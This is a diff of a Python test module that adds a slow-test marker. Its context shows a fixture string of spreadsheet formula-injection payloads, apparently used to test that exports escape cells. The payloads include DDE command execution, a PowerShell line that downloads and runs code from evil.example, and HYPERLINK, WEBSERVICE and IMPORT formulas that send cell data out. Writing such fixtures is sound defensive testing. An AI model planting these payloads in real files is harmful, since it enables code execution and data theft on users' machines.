@@ -18,6 +18,8 @@ from tests.store.world import RASA, Mail, Office, meeting
 from .conftest import Site
 from .test_payloads import NOW, TABLES
 
+pytestmark = pytest.mark.slow
+
 PIECES = """\
 =1+1¦=cmd|' /C calc'!A0¦=cmd|'/C powershell IEX(wget evil.example/x)'!A0¦=HYPERLINK("http://evil.example/?x="&A1,"click")¦=IMPORTXML("http://evil.example","//a")¦=IMPORTDATA("http://evil.example")¦\
 =WEBSERVICE("http://evil.example/"&A1)¦=DDE("cmd";"/C calc";"x")¦=IMAGE("http://evil.example/x.png")¦=IMPORTRANGE("x","A1")¦=IMPORTHTML("http://evil.example","table",1)¦=IMPORTFEED("http://evil.example")¦\
